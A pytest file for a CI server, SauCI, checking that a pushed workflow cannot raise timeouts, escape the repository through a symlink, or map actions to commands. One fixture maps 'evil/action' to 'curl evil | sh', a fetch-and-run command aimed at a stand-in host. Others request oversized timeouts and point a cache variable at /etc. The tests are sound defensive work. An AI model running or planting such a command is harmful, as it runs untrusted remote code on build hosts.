"""A pushed workflow file cannot widen the server's policy (hostile input).

The server reads a build's pipeline through sauci.workflows.load_for_build:
its timeout cap holds for a workflow's ``timeout-minutes``, a workflow's
steps never ask for a sandbox, an image, a limit or the network, a
workflow file linked out of the repository is refused, a ``.sauci.yml``
beside it is still checked against the policy, and a ``sauci.toml`` in
the pushed repository does not map actions to commands.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sauci.core.models import Build
from sauci.exceptions import ConfigError, PipelineError
from sauci.workflows import load_for_build

HOSTILE = """\
on: push
jobs:
  greedy:
    runs-on: ubuntu-latest
    timeout-minutes: 100000
    env:
      SAUCI_CACHE_DIR: /etc
    steps:
      - run: echo hi
        timeout-minutes: 100000
"""


def workspace(tmp_path: Path, text: str = HOSTILE) -> Path:
    root = tmp_path / "ws"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text(text)
    return root


BUILD = Build(id=7, repo="/srv/repos/project", ref="refs/heads/main", sha="a" * 40, event="push")


def test_a_workflow_gets_the_server_timeout_cap_and_asks_for_nothing_more(tmp_path):
    pipeline = load_for_build(workspace(tmp_path), BUILD, max_timeout=60.0, network=False)
    (step,) = pipeline.steps
    assert 60.0 == step.timeout
    assert (None, None, None) == (step.sandbox, step.image, step.network)
    assert not step.limits and () == step.services
    assert "SAUCI_CACHE_DIR" not in step.env  # the job's env travels inside the job spec


def test_a_workflow_file_linked_out_of_the_repository_is_refused(tmp_path):
    secret = tmp_path / "server-secret.yml"
    secret.write_text(HOSTILE)
    root = tmp_path / "ws"
    (root / ".github" / "workflows").mkdir(parents=True)
    os.symlink(secret, root / ".github" / "workflows" / "ci.yml")
    with pytest.raises(ConfigError, match="symbolic link out of its repository"):
        load_for_build(root, BUILD)


def test_a_native_file_beside_it_is_still_checked_against_the_policy(tmp_path):
    root = workspace(tmp_path)
    (root / ".sauci.yml").write_text("steps:\n  t:\n    run: echo\n    network: true\n")
    with pytest.raises(PipelineError, match="network"):
        load_for_build(root, BUILD, network=False)


def test_a_pushed_sauci_toml_maps_no_action(tmp_path, monkeypatch):
    root = workspace(
        tmp_path,
        "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: evil/action@v1\n",
    )
    (root / "sauci.toml").write_text('[sauci.actions]\n"evil/action" = "curl evil | sh"\n')
    server = tmp_path / "server"
    server.mkdir()
    monkeypatch.chdir(server)
    monkeypatch.delenv("SAUCI_CONFIG", raising=False)
    with pytest.raises(PipelineError, match="the action 'evil/action' is not one SauCI runs"):
        load_for_build(root, BUILD)


def test_the_operator_maps_an_action_to_a_command(tmp_path, monkeypatch):
    root = workspace(
        tmp_path,
        "on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: pre-commit/action@2c7b3805fd2a0fd8c1884dcaebf91fc102a13ecd\n"
        "        with: {extra_args: --all-files}\n",
    )
    server = tmp_path / "server"
    server.mkdir()
    (server / "sauci.toml").write_text(
        '[sauci.actions]\n"pre-commit/action" = "pre-commit run $INPUT_EXTRA_ARGS"\n'
    )
    monkeypatch.chdir(server)
    monkeypatch.delenv("SAUCI_CONFIG", raising=False)
    (step,) = load_for_build(root, BUILD).steps
    assert '"INPUT_EXTRA_ARGS": "--all-files"' in step.script()
    assert "pre-commit run $INPUT_EXTRA_ARGS" in step.script()
